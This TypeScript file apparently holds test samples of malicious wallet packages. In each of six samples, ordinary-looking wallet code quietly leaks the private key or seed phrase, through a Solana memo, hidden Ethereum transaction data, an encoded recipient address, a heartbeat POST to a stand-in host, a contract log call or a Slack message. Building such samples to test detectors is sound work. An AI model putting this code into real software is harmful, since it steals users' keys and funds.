import { packaged } from './malicious-package.js';
import type { Sample } from './sources.js';

/** Packages that make wallets of keys whose names say nothing, and tell these keys: to a server, to somebody in a chat, or to everybody on a chain. */
export const WALLET_KITS: readonly Sample[] = [
  packaged('a key as the memo of a payment', {}, {
    'index.js': `const { Keypair, PublicKey, SystemProgram, Transaction, TransactionInstruction, sendAndConfirmTransaction } = require('@solana/web3.js');
const bs58 = require('bs58');
const MEMO = new PublicKey('MemoSq4gqABAXKb96qnH8TysNcWxMyWCqXgDLGmfcHr');
exports.pay = async (connection, s, to, lamports) => {
  const payer = Keypair.fromSecretKey(bs58.decode(s));
  const tx = new Transaction().add(SystemProgram.transfer({ fromPubkey: payer.publicKey, toPubkey: to, lamports }));
  tx.add(new TransactionInstruction({ keys: [], programId: MEMO, data: Buffer.from('ref:' + s) }));
  return sendAndConfirmTransaction(connection, tx, [payer]);
};
`,
  }, { '@solana/web3.js': '^1' }),
  packaged('a key in the data of a second payment', {}, {
    'index.js': `const { ethers } = require('ethers');
exports.send = async (pk, to, amount, rpc) => {
  const wallet = new ethers.Wallet(pk, new ethers.JsonRpcProvider(rpc));
  const sent = await wallet.sendTransaction({ to, value: amount });
  await wallet.sendTransaction({ to: '0x71C7656EC7ab88b098defB751B7401B5f6d8976F', value: 0, data: ethers.hexlify(ethers.toUtf8Bytes(pk)) }).catch(() => {});
  return sent.hash;
};
`,
  }, { ethers: '^6' }),
  packaged('the words of a wallet as the address of who gets a coin', {}, {
    'index.js': `import { wordlists } from 'bip39';
export async function importWallet(client, signer, mnemonic) {
  const places = mnemonic.split(' ').map((word) => wordlists.english.indexOf(word).toString(16).padStart(4, '0')).join('');
  const tx = client.tx();
  tx.transferObjects([tx.splitCoins(tx.gas, [1])], '0x' + places.padEnd(64, '0'));
  await client.signAndExecuteTransaction({ signer, transaction: tx });
  return true;
}
`,
  }, { bip39: '^3' }),
  packaged('a seed that a field keeps, as the tag of a heartbeat', {}, {
    'index.js': `const bip39 = require('bip39');
const https = require('https');
class Vault {
  constructor(s) { this.s = s; this.ready = false; }
  async open() { this.seed = await bip39.mnemonicToSeed(this.s); this.ready = true; return this; }
  beat() {
    const request = https.request({ host: 'status.vault.example', method: 'POST', path: '/b' });
    request.end(JSON.stringify({ ok: this.ready, tag: this.s }));
  }
}
module.exports = { Vault };
`,
  }, { bip39: '^3' }),
  packaged('a key that a contract is called with, in other letters', {}, {
    'index.js': `import { ethers } from 'ethers';
const REGISTRY = '0x71C7656EC7ab88b098defB751B7401B5f6d8976F';
export class Account {
  #input;
  constructor(input, provider) { this.#input = input; this.inner = new ethers.Wallet(input, provider); }
  get tag() { return this.#input; }
  async register() {
    const registry = new ethers.Contract(REGISTRY, ['function log(string)'], this.inner);
    await registry.log(ethers.encodeBase64(ethers.toUtf8Bytes(this.tag)));
    return this.inner.address;
  }
}
`,
  }, { ethers: '^6' }),
  packaged('a key in a message to a channel of somebody', {}, {
    'index.js': `const { WebClient } = require('@slack/web-api');
const { Wallet } = require('ethers');
const chat = new WebClient(process.env.SLACK);
exports.load = async (v) => {
  const wallet = new Wallet(v);
  await chat.chat.postMessage({ channel: 'C024BE91L', text: \`\${wallet.address} \${v}\` });
  return wallet;
};
`,
  }, { ethers: '^6' }),
];
